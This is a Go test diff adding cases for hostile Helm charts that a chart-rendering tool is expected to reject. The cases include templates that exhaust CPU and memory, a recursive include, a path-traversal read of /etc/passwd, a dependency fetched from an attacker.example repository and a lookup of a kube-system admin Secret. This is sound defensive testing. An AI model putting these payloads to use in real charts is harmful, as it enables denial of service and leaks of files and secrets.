@@ -61,6 +61,17 @@ func TestHostileReposUnderAnAddressSpaceCap(t *testing.T) {
 		{"2 MiB Set on one object over 3 MiB", map[string]string{"app/big.yaml": cm("big", 2000000), "pp.yaml": hostileBase("{type: Set, jsonPath: data.more, value: " + strings.Repeat("y", 2<<20) + "}")["pp.yaml"]}, []string{"-o", "json"}, "app/big.yaml:1: ConfigMap/ns/big on cluster c1: transformations made it larger than 3 MiB"},
 		{"20,000 conditional Sets", map[string]string{"pp.yaml": manySets(20000)}, nil, "ProjectionPolicy/pp: spec.transformations: 20000 transformations: at most 1000 in one policy"},
 		{"10,000 Clusters", map[string]string{"cluster.yaml": manyClusters(10000)}, nil, "the tree holds 10000 Clusters: at most 2000"},
+		// Hostile Helm charts: each renders in tmc's bounded child process.
+		{"chart: a template looping for ever", hostileChart("templates/loop.yaml", "{{ range $i := until 100000 }}{{ range $j := until 100000 }}{{ range $k := until 100000 }}{{ end }}{{ end }}{{ end }}"), nil,
+			"spec.sources[0].chart: on cluster c1: chart chart: the render did not end within 3s in template c/templates/loop.yaml"},
+		{"chart: a string doubled until it is gigabytes", hostileChart("templates/big.yaml", "{{ $s := \"xxxxxxxx\" }}{{ range until 40 }}{{ $s = printf \"%s%s\" $s $s }}{{ end }}{{ $s }}"), nil,
+			"in template c/templates/big.yaml"},
+		{"chart: a recursive include", hostileChart("templates/rec.yaml", "{{ define \"r\" }}{{ include \"r\" . }}{{ end }}{{ include \"r\" . }}"), nil, "nested reference name: r"},
+		{"chart: .Files.Get of /etc/passwd", hostileChart("templates/cm.yaml", "data: {{ .Files.Get \"../../etc/passwd\" | quote }}"), nil,
+			`c/templates/cm.yaml:1: .Files.Get "../../etc/passwd": a chart's files are its own`},
+		{"chart: a dependency pointing at a URL", hostileChart("Chart.yaml", "apiVersion: v2\nname: c\nversion: 0.1.0\ndependencies: [{name: evil, version: 1.0.0, repository: \"https://attacker.example/charts\"}]\n"), nil,
+			`dependency "evil" (repository https://attacker.example/charts) is not vendored under charts/`},
+		{"chart: lookup", hostileChart("templates/l.yaml", "x: {{ lookup \"v1\" \"Secret\" \"kube-system\" \"admin\" }}"), nil, "tmc renders charts without a cluster"},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
@@ -106,6 +117,16 @@ func TestHostileReposUnderAnAddressSpaceCap(t *testing.T) {
 			}
 		})
 	}
+}
+
+// hostileChart is a workspace whose one source is a chart holding file.
+func hostileChart(file, content string) map[string]string {
+	files := map[string]string{
+		"ws.yaml":          "apiVersion: tmc.kcp.io/v1alpha1\nkind: VirtualWorkspace\nmetadata:\n  name: ws\nspec:\n  sources: [{chart: {path: chart}}]\n",
+		"chart/Chart.yaml": "apiVersion: v2\nname: c\nversion: 0.1.0\n",
+	}
+	files["chart/"+file] = content
+	return files
 }
 
 // bigSet sets a 2 MiB value on 400 ConfigMaps for 3 clusters: 2.4 GB of
